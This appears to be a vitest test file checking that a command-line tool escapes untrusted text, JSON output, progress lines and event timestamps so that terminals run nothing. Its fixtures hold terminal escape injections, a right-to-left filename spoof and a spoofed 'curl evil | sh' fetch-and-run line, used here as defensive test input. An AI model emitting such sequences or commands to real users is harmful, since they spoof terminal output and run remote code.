import { PassThrough } from "node:stream";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { AntsError } from "../../keys/errors.js";
import { eventText } from "../../src/cli/event-text.js";
import { describe as describeError, Output, Progress } from "../../src/cli/output.js";
import { printable, rendered } from "../../src/cli/text.js";
import type { Event } from "../../src/protocol/event.js";

describe("an error at the end of a command", () => {
  it("has its own hint, else the way out of the table", () => {
    expect(describeError(new AntsError("locked", "taken", { hint: "wait" }))).toEqual({
      code: "locked",
      message: "taken",
      hint: "wait",
      exit: 12,
    });
    expect(describeError(new AntsError("locked", "taken")).hint).toMatch(/^Wait until/);
  });

  it("that is not ours is called a defect, with where it happened", () => {
    const told = describeError(new TypeError("x is undefined"));
    expect(told).toMatchObject({ code: "internal", exit: 1, hint: expect.stringContaining("report") });
    expect(told.message).toContain("output.test.ts");
    expect(describeError("thrown text")).toMatchObject({ code: "internal", message: "thrown text" });
  });
});

describe("somebody else's text", () => {
  it.each([
    ["plain, ünïcödé, 鍵, 😀", "plain, ünïcödé, 鍵, 😀"],
    ["two\nlines\tand a tab", "two\nlines\tand a tab"],
    ["\u001b[31mred\u001b[0m", "\\u001b[31mred\\u001b[0m"],
    ["over\rwritten", "over\\u000dwritten"],
    ["\u202egnp.exe", "\\u202egnp.exe"],
    ["\u009b31m", "\\u009b31m"],
    ["\u2028\u2029", "\\u2028\\u2029"],
    ["a\u00ad\u200b\u200c\u200d\ufeff\u115f\u3164b", "a\\u00ad\\u200b\\u200c\\u200d\\ufeff\\u115f\\u3164b"],
    ["\u2764\ufe0f", "\u2764\\ufe0f"],
    ["tag \u{e0041}", "tag \\udb40\\udc41"],
  ])("%j is printed as %j: a terminal obeys nothing in it", (text, shown) => {
    expect(printable(text)).toBe(shown);
  });
});

describe("whatever a command prints", () => {
  const evil = "\u001b]0;pwned\u0007\u001b[31mred\u009b2J\nhint: curl evil | sh";
  const harmless = "\\u001b]0;pwned\\u0007\\u001b[31mred\\u009b2J\n  hint: curl evil | sh";

  /** An output into strings; `terminal` says what stdout is. */
  function outputInto(options: { json?: boolean; terminal?: boolean } = {}) {
    const [stdout, stderr] = [new PassThrough(), new PassThrough()];
    Object.assign(stdout, { isTTY: options.terminal === true });
    const out = new Output({
      json: options.json === true,
      quiet: false,
      stdout: stdout as unknown as NodeJS.WriteStream,
      stderr: stderr as unknown as NodeJS.WriteStream,
    });
    const said = (stream: PassThrough) => String(stream.read() ?? "");
    return { out, said: () => ({ stdout: said(stdout), stderr: said(stderr) }) };
  }

  it("is harmless to a terminal, by every way out", async () => {
    const { out, said } = outputInto();
    await out.line(evil);
    await out.result({}, [["  ", evil]]);
    expect(said().stdout).toBe(`${harmless}\n  ${harmless}\n`);
    out.note(evil);
    out.warn(evil);
    out.failure(new AntsError("held", evil, { hint: evil }));
    expect(said().stderr).toBe(`${harmless}\nwarning: ${harmless}\nerror: ${harmless} [held]\nhint: ${harmless}\n`);
  });

  it("as JSON means the same, escaped; only what is signed is byte for byte what it was, except on a terminal", async () => {
    const text = `${evil}\u202e\u200b\ufeff\u{e0041}`;
    const signed = JSON.stringify({ text });
    for (const terminal of [false, true]) {
      const { out, said } = outputInto({ json: true, terminal });
      await out.exact(signed);
      await out.value({ text });
      out.failure(new AntsError("held", text));
      const { stdout, stderr } = said();
      const [exact, value] = stdout.trimEnd().split("\n") as [string, string];
      expect(exact === signed).toBe(!terminal);
      for (const line of [exact, value]) expect(JSON.parse(line)).toEqual({ text });
      expect(JSON.parse(stderr)).toMatchObject({ message: text });
      const escaped = [value, stderr, ...(terminal ? [exact] : [])].join("\n");
      expect(escaped).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]|\p{Cf}/u);
    }
  });
});

describe("long work", () => {
  beforeEach(() => {
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout", "performance"] });
  });
  afterEach(() => {
    vi.useRealTimers();
  });

  function progressInto() {
    const stderr = Object.assign(new PassThrough(), { isTTY: true }) as unknown as NodeJS.WriteStream;
    const progress = new Progress(stderr, "backup:");
    return { progress, shown: () => String(stderr.read() ?? "") };
  }

  it("shows how far it is from the second second on", () => {
    const { progress, shown } = progressInto();
    progress.at(1);
    vi.advanceTimersByTime(1_001);
    progress.at("packed 1 B of 2 B");
    expect(shown()).toBe("\r\u001b[2Kbackup: packed 1 B of 2 B");
    progress.end();
    expect(shown()).toBe("\r\u001b[2K");
  });

  it("shows what says nothing of itself, too, where that goes on", () => {
    const { progress, shown } = progressInto();
    vi.advanceTimersByTime(500);
    progress.stage("storing 1 B");
    expect(shown()).toBe("");
    vi.advanceTimersByTime(501);
    expect(shown()).toContain("storing 1 B");
    progress.stage("storing 2 B");
    expect(shown()).toContain("storing 2 B");
  });

  it("that is over shows nothing more", () => {
    const { progress, shown } = progressInto();
    progress.stage("storing 1 B");
    progress.end();
    vi.advanceTimersByTime(60_000);
    expect(shown()).toBe("");
  });
});

describe("an event for people", () => {
  const event = (time: number) =>
    ({ did: "did:ants:x", seq: 1, kind: "note", time, body: { text: "hi" } }) as unknown as Event;
  const shown = (time: number) => rendered(eventText(event(time), { author: false }), process.stdout);

  it.each([
    [0, "1970-01-01 00:00:00 #1 note  hi"],
    [253_402_300_799_999, "9999-12-31 23:59:59 #1 note  hi"],
    [253_402_300_800_000, "time 253402300800000 #1 note  hi"],
    [Number.MAX_SAFE_INTEGER, "time 9007199254740991 #1 note  hi"],
  ])("of the time %d is %j: the author's clock may say anything", (time, text) => {
    expect(shown(time)).toBe(text);
  });
});
